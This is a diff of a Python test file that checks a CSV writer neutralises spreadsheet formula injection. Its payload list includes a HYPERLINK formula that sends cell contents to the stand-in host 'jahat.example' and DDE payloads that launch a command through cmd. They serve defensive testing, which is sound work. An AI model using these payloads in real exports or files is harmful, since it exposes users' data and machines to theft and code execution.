@@ -17,7 +17,8 @@ from feedback_app.safe_table import SafeTable, harmless
 ROOT = config.project_root()
 FORMULAS = (
     '=HYPERLINK("https://jahat.example/?"&A1,"klik")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
-    "\n=1+1", "  =1+1", "=cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "-2+3+cmd|' /C calc'!A0",
+    "\n=1+1", "  =1+1", "=cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)",
+    "-2+3+cmd|' /C calc'!A0",
 )  # fmt: skip
 
 
@@ -27,10 +28,11 @@ def test_a_table_opened_in_a_spreadsheet_runs_nothing(words: str) -> None:
     SafeTable(written).row(["unit", words, 3])
     [row] = csv.reader(io.StringIO(written.getvalue(), newline=""))
     book = openpyxl.Workbook()
-    book.active.append(row)
+    sheet = book.worksheets[0]
+    sheet.append(row)
     kept = io.BytesIO()
     book.save(kept)
-    cells = list(openpyxl.load_workbook(kept).active.iter_rows())[0]
+    [cells] = openpyxl.load_workbook(kept).worksheets[0].iter_rows()
     assert [cell.data_type for cell in cells] == ["s", "s", "s"]
     assert row[1] == f"'{words}"
 
